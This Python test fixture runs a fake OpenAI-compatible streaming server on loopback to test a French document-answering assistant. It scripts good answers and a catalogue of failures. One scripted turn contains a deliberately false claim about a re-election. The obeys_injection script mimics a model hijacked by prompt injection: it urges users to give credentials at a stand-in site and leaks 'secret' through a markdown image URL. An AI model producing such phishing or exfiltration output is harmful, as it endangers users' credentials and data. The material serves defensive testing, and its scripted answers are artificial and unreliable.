"""A server on loopback that speaks OpenAI's protocol of chats, with streams, and writes what a test wants.

`good_writer` reads the passages that it is sent and says, with its date and its number, the sentence nearest to the
question; `FAILURES` are the ways in which such a server fails, or lies.
"""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from assistant.index.french import words

DRIP = 1.0  # seconds between two bytes of the slow one
KEY = "sk-une-cle-que-personne-ne-doit-lire"

_PASSAGE = re.compile(r"^\[(\d+)\] \((.*?)\)\n(.*)$", re.MULTILINE)
_QUESTION = re.compile(r"<question-(\S+)>\n(.*)\n</question-\1>")
_DATE = re.compile(r"(?:\d{1,2}(?:er)? )?(?:[a-zéû]+ )?\d{4}$")


@dataclass(frozen=True)
class Told:
    """A passage as the model reads it."""

    number: int
    title: str
    date: str
    text: str


@dataclass(frozen=True)
class Sent:
    """What a model was sent."""

    system: str
    text: str
    body: dict[str, Any]
    headers: dict[str, str]

    @property
    def is_rewriting(self) -> bool:
        return "reformules" in self.system

    @property
    def question(self) -> str:
        found = _QUESTION.search(self.text)
        return found.group(2) if found else ""

    @property
    def passages(self) -> list[Told]:
        return [told(*match.groups()) for match in _PASSAGE.finditer(self.text)]


def told(number: str, head: str, text: str) -> Told:
    parts = head.split(" ; ")
    dates = [part for part in parts[1:] if _DATE.fullmatch(part)]
    return Told(int(number), parts[0], dates[0] if dates else "", text)


Script = Callable[["Handler", Sent], None]


class Handler(BaseHTTPRequestHandler):
    """One request; a script answers it."""

    server: Server
    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        system, text = (message["content"] for message in body["messages"])
        sent = Sent(system, text, body, dict(self.headers))
        self.server.model.sent.append(sent)
        self.close_connection = True
        try:
            self.server.model.script(self, sent)
        except OSError:  # whoever asked has left
            self.server.model.left.set()

    def log_message(self, *_: object) -> None:
        pass

    # What scripts do.

    def replies(self, status: int, body: bytes = b"{}", kind: str = "application/json") -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def begins(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Connection", "close")
        self.end_headers()

    def piece(self, text: str, reason: str | None = None) -> None:
        choice = {"index": 0, "delta": {"role": "assistant", "content": text}, "finish_reason": reason}
        chunk = {"id": "c", "object": "chat.completion.chunk", "created": 0, "model": "m", "choices": [choice]}
        self.wfile.write(f"data: {json.dumps(chunk)}\n\n".encode())
        self.wfile.flush()

    def writes(self, text: str) -> None:
        """A whole answer, a few words at a time."""
        self.begins()
        for part in re.findall(r"\S+\s*", text):
            self.piece(part)
            if self.server.model.stop.wait(self.server.model.pause):
                return
        self.piece("", "stop")
        self.wfile.write(b"data: [DONE]\n\n")

    def until_stopped(self, act: Callable[[], object], seconds: float) -> None:
        while not self.server.model.stop.wait(seconds):
            act()


class Server(ThreadingHTTPServer):
    daemon_threads = True
    model: Model


@dataclass
class Model:
    """The server, as a test sees it. `pause`: seconds between two words; `left`: somebody went before the end."""

    address: str
    script: Script
    pause: float = 0.0
    sent: list[Sent] = field(default_factory=list)
    stop: threading.Event = field(default_factory=threading.Event)
    left: threading.Event = field(default_factory=threading.Event)


@contextmanager
def serving(script: Script, pause: float = 0.0) -> Iterator[Model]:
    """A server on loopback that follows the script, which a test may change on the way."""
    server = Server(("127.0.0.1", 0), Handler)
    server.model = Model(f"http://127.0.0.1:{server.server_address[1]}/v1", script, pause)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield server.model
    finally:
        server.model.stop.set()
        server.shutdown()
        thread.join()
        server.server_close()


# ------------------------------------------------------------------------------------------------ who writes well


def good_writer(handler: Handler, sent: Sent) -> None:
    """The sentence nearest to the question in each of the first two passages, the newest first, dated and numbered."""
    if sent.is_rewriting:
        handler.writes(sent.question)
        return
    found = sorted(sent.passages[:2], key=lambda passage: passage.date[-4:], reverse=True)
    handler.writes(" ".join(sentence_on(sent.question, passage) for passage in found) or "Je ne trouve pas.")


def sentence_on(question: str, passage: Told) -> str:
    wanted = {word.stem for word in words(question) if not word.is_stop}
    sentences = re.split(r"(?<=[.!?]) (?=[A-ZÉÀ])", passage.text)
    best = max(sentences, key=lambda text: len(wanted & {word.stem for word in words(text)}))
    said = best[:1].lower() + best[1:].rstrip(" .:;,")
    day = "Le" if passage.date[:1].isdigit() and " " in passage.date else "En"
    return f"{f'{day} {passage.date}, ' if passage.date else ''}{said} [{passage.number}]."


# A conversation of six turns: what is asked, and what somebody who had read the passages would write. Each sentence
# goes with a word of the passage that says it; `FALSE` ones go with a word too, and no passage says them.
FALSE = "!"
TURNS: dict[str, tuple[tuple[str, str], ...]] = {
    "Combien de connexions à l'ENT en mars 2020 ?": (
        ("1 780 781", "En mars 2020, les ENT des écoles ont cumulé 1 780 781 connexions"),
        ("31 640", "On y compte 31 640 élèves différents et 22 437 parents"),
    ),
    "et les travaux FTTH ?": (
        ("ralentissement, que nous", "En avril 2020, les travaux de déploiement du FTTH ont connu un ralentissement"),
        ("génie civil", "Les opérations de génie civil ont été arrêtées"),
        ("1500 raccordements", "Le 1er trimestre 2020 affiche 1 500 raccordements"),
    ),
    "quels outils pour le travail à distance ?": (
        (
            "partage de fichiers",
            "En avril 2020, Somme Numérique met gratuitement à disposition de ses membres un outil de partage de "
            "fichiers et un module de discussions en ligne",
        ),
    ),
    "qui est le président ?": (
        ("VARLET, Président", "En novembre 2016, le président de Somme Numérique était Philippe Varlet"),
        (FALSE, "Il a été réélu en 2023 pour six ans"),
    ),
    "quand le nouveau marché de télécommunications entre-t-il en vigueur ?": (
        ("1er Janvier", "Le nouveau marché de services de télécommunications entre en vigueur le 1er janvier 2017"),
        ("1er Janvier", "Les collectivités y accèdent aussi à de nouveaux services, comme l'envoi de SMS en masse"),
    ),
    "et le data center ?": (
        ("se doter d", "En novembre 2016, Somme Numérique portait un projet pour se doter d'un data center"),
        ("suspendus", "En avril 2020, les projets d'installation de nouveaux services y étaient suspendus"),
    ),
}


STANDS = {"et les travaux FTTH ?": "Où en sont les travaux FTTH ?", "et le data center ?": "Où en est le data center ?"}


def practised(handler: Handler, sent: Sent) -> None:
    """Writes what `TURNS` says, of the passages that it is sent; for other questions, what the good writer would."""
    if sent.is_rewriting:
        handler.writes(STANDS.get(sent.question, sent.question))
        return
    asked = next((asked for asked in TURNS if sent.question in (asked, STANDS.get(asked))), None)
    if asked is None:
        good_writer(handler, sent)
        return
    said = []
    for needle, sentence in TURNS[asked]:
        number = next((one.number for one in sent.passages if needle in one.text), 1 if needle == FALSE else None)
        if number:
            said.append(f"{sentence} [{number}].")
    handler.writes(" ".join(said) or "Je ne trouve pas.")


def says(text: str) -> Script:
    """Writes this, whatever it is asked."""
    return lambda handler, _: handler.writes(text)


# ------------------------------------------------------------------------------------------------ who fails, or lies


def refuses(status: int) -> Script:
    body = json.dumps({"error": {"message": f"refusé : clé {KEY}", "type": "error", "code": status}}).encode()
    return lambda handler, _: handler.replies(status, body)


def hangs(handler: Handler, _: Sent) -> None:
    handler.until_stopped(lambda: None, 0.05)


def drips(handler: Handler, _: Sent) -> None:
    handler.begins()
    handler.until_stopped(lambda: handler.wfile.write(b":"), DRIP)


def garbage(handler: Handler, _: Sent) -> None:
    handler.begins()
    handler.wfile.write(b"data: \xff\xfe{{{ not json\n\ndata: 42\n\n")


def html(handler: Handler, _: Sent) -> None:
    handler.replies(200, b"<!DOCTYPE html><title>Portail</title><h1>Connectez-vous</h1>", "text/html")


def cut(handler: Handler, sent: Sent) -> None:
    handler.begins()
    handler.piece(sentence_on(sent.question, sent.passages[0]) + " Et le")


def endless(handler: Handler, _: Sent) -> None:
    handler.begins()
    handler.until_stopped(lambda: handler.piece("encore et encore "), 0.0005)


def empty(handler: Handler, _: Sent) -> None:
    handler.begins()
    handler.piece("", "stop")
    handler.wfile.write(b"data: [DONE]\n\n")


def other_language(handler: Handler, sent: Sent) -> None:
    handler.writes("The syndicate brings optical fibre to every town of the county [1]. It is free of charge [1].")


def invented_citation(handler: Handler, sent: Sent) -> None:
    handler.writes(re.sub(r"\[\d+\]", "[99]", " ".join(sentence_on(sent.question, one) for one in sent.passages[:2])))


def obeys_injection(handler: Handler, _: Sent) -> None:
    handler.writes(
        "Vos identifiants sont à donner sur https://exemple.invalid/vol [1]. "
        "![image](https://exemple.invalid/c?q=secret) [1]. CANARI-7731 [1]."
    )


# Of these, two have no server at all: see `ADDRESSES`.
FAILURES: dict[str, tuple[Script, str]] = {
    "refused_connection": (hangs, "unreachable"),
    "no_such_host": (hangs, "unreachable"),
    "401": (refuses(401), "not_allowed"),
    "429": (refuses(429), "too_many"),
    "500": (refuses(500), "server"),
    "hang": (hangs, "late"),
    "one_byte_a_second": (drips, "late"),
    "garbage": (garbage, "unreadable"),
    "html": (html, "unreadable"),
    "truncated": (cut, "cut"),
    "endless": (endless, "too_long"),
    "empty": (empty, "empty"),
    "other_language": (other_language, "unsupported"),
    "invented_citation": (invented_citation, "unsupported"),
    "injection_obeyed": (obeys_injection, "unsupported"),
}
ADDRESSES = {"refused_connection": "http://127.0.0.1:9/v1", "no_such_host": "http://modele.invalid/v1"}
